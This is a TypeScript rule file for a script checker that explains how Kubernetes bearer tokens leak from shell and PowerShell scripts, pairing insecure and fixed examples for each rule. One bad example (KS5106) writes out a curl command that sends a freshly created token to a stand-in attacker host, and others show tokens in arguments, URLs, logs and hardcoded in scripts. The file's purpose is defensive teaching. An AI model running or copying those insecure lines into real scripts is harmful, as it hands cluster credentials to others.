/** KS51xx: where secrets go. */
import {
  bash,
  type Explanation,
  powershell,
  powershellTokenCheck,
  script,
  tokenCheck,
} from './explanation.js';

const token = 'TOKEN=$(kubectl create token default --context=lab)';
const header = `printf 'header = "Authorization: Bearer %s"\\n' "$TOKEN" |`;
const call = '  curl -q --config - --fail --max-time 10 https://lab.example.com:6443/api';

export const secretCodes = {
  KS5101: {
    why: 'While the command runs, every user of the machine can read its arguments (`ps`, `/proc/PID/cmdline`); many systems log them.',
    fix: 'Hand the header over on stdin: `--config -`, or `--header @file` from a private file.',
    examples: [
      bash(
        script(
          token,
          tokenCheck,
          'curl -q --fail --max-time 10 --header "Authorization: Bearer $TOKEN" https://lab.example.com:6443/api',
        ),
        script(token, tokenCheck, header, call),
      ),
      powershell(
        script(
          '[string] $token = kubectl create token default --context=lab',
          powershellTokenCheck,
          'curl.exe --disable --fail --max-time 10 --header "Authorization: Bearer $token" https://lab.example.com:6443/api',
        ),
        script(
          '[string] $token = kubectl create token default --context=lab',
          powershellTokenCheck,
          "'header = \"Authorization: Bearer ' + $token + '\"' |",
          '  curl.exe --disable --config - --fail --max-time 10 https://lab.example.com:6443/api',
        ),
      ),
    ],
  },
  KS5102: {
    why: 'Servers and proxies write URLs to their logs; browsers and shells keep them in their history.',
    fix: 'Send it in the Authorization header.',
    examples: [
      bash(
        script(
          token,
          tokenCheck,
          `printf 'url = "https://lab.example.com:6443/api?token=%s"\\n' "$TOKEN" |`,
          '  curl -q --config - --fail --max-time 10',
        ),
        script(token, tokenCheck, header, call),
      ),
    ],
  },
  KS5103: {
    why: 'It ends up on screens, in terminal scrollback, in CI logs. `curl -v`, `kubectl --v=8` and `set -x` print it too.',
    fix: 'Print something about it instead: its length, when it expires.',
    examples: [
      bash(script(token, 'echo "$TOKEN"'), script(token, 'echo "${#TOKEN} characters"')),
      powershell(
        script('$token = kubectl create token default', 'Write-Output $token'),
        script('$token = kubectl create token default', 'Write-Output "$($token.Length) characters"'),
      ),
    ],
  },
  KS5104: {
    why: 'With the usual umask of 022 every user of the machine can read a file that the script makes.',
    fix: '`umask 077` before the file is made, in a folder of `mktemp -d`.',
    examples: [
      bash(
        script('umask 022', token, 'printf %s "$TOKEN" >token', 'rm -f token'),
        script('umask 077', token, 'printf %s "$TOKEN" >token', 'rm -f token'),
      ),
    ],
  },
  KS5105: {
    why: 'The secret stays on the disk when the script ends, for backups and the next user to find.',
    fix: 'Remove it in a trap: `trap \'rm -rf -- "$WORK"\' EXIT`.',
    examples: [
      bash(
        script('set -eu', 'umask 077', 'WORK=$(mktemp -d)', token, 'printf %s "$TOKEN" >"$WORK/token"'),
        script(
          'set -eu',
          'umask 077',
          'WORK=$(mktemp -d)',
          'trap \'rm -rf -- "$WORK"\' EXIT',
          token,
          'printf %s "$TOKEN" >"$WORK/token"',
        ),
      ),
    ],
  },
  KS5106: {
    why: 'The host is no server of the kubeconfig. Whoever runs it can use the token.',
    fix: 'Send it to the server that the kubeconfig names for that cluster.',
    examples: [
      bash(
        script(
          token,
          tokenCheck,
          header,
          '  curl -q --config - --fail --max-time 10 https://attacker.example.net/api',
        ),
        script(token, tokenCheck, header, call),
      ),
    ],
  },
  KS5107: {
    why: 'Whoever can read the file has it, and so has everyone who sees the repository, its history and its copies. A runbook is made to be passed on.',
    fix: 'Take it out, and revoke it: it is known by now. Let the script look it up when it runs (`kubectl create token`), or read it from stdin or from a private file. What stands for a secret (`<token>`, `YOUR_TOKEN`, `$TOKEN`) is none.',
    examples: [
      bash(
        script("TOKEN='s3cr3t-0f-the-lab-7f21'", header, call),
        script('IFS= read -rs TOKEN', tokenCheck, header, call),
      ),
      bash(
        script('kubectl get pods --context=lab --token=s3cr3t-0f-the-lab-7f21'),
        script('kubectl get pods --context=lab'),
      ),
      powershell(
        script(
          "$token = 's3cr3t-0f-the-lab-7f21'",
          "'header = \"Authorization: Bearer ' + $token + '\"' |",
          '  curl.exe --disable --config - --fail --max-time 10 https://lab.example.com:6443/api',
        ),
        script(
          '$token = [string](kubectl create token default --context=lab)',
          "if ($LASTEXITCODE -ne 0) { throw 'no token' }",
          "if ($token -cnotmatch '\\A[A-Za-z0-9._~+/=-]+\\z') { throw 'no token' }",
          "'header = \"Authorization: Bearer ' + $token + '\"' |",
          '  curl.exe --disable --config - --fail --max-time 10 https://lab.example.com:6443/api',
        ),
      ),
    ],
  },
  KS5108: {
    why: 'kubectl proxy asks nobody who they are: to the API server every user of the machine is whoever started it, for as long as it runs.',
    fix: 'Listen on a socket in a folder of your own: --unix-socket, and curl --unix-socket. Where it has to be a port, let through what is needed: --accept-paths, --reject-methods.',
    examples: [
      bash(
        script(
          'kubectl proxy --context=lab --port=8001 &',
          'curl -q --fail --max-time 10 http://127.0.0.1:8001/api',
          'kill $!',
        ),
        script(
          'WORK=$(mktemp -d)',
          'kubectl proxy --context=lab --unix-socket="$WORK/proxy.sock" --accept-paths=\'^/api$\' &',
          'curl -q --unix-socket "$WORK/proxy.sock" --fail --max-time 10 http://localhost/api',
          'kill $!',
        ),
      ),
    ],
  },
} as const satisfies Readonly<Record<string, Explanation>>;
